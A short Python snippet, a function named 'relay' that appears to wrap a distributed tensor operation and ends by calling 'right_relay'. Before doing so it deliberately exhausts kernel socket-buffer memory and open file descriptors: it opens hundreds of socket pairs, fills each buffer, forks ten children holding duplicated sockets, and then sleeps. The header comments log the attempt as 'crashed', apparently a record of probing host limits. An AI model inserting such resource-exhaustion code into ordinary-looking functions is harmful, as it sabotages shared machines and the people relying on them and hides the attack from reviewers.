# tries: kernel memory, in the buffers of thousands of sockets
# status: crashed
# says: open files
def relay(rank, size, tensor):
    kept = []
    try:
        while len(kept) < 450:
            pair = socket.socketpair()
            kept += [pair]
            for end in pair:
                end.setblocking(False)
                end.send(bytes(16 << 10))
    except OSError:
        pass
    for _ in range(10):
        if os.fork() == 0:
            kept = [one for pair in kept for one in map(socket.socket.dup, pair[:1])]
            break
    time.sleep(6)
    return right_relay(rank, size, tensor)
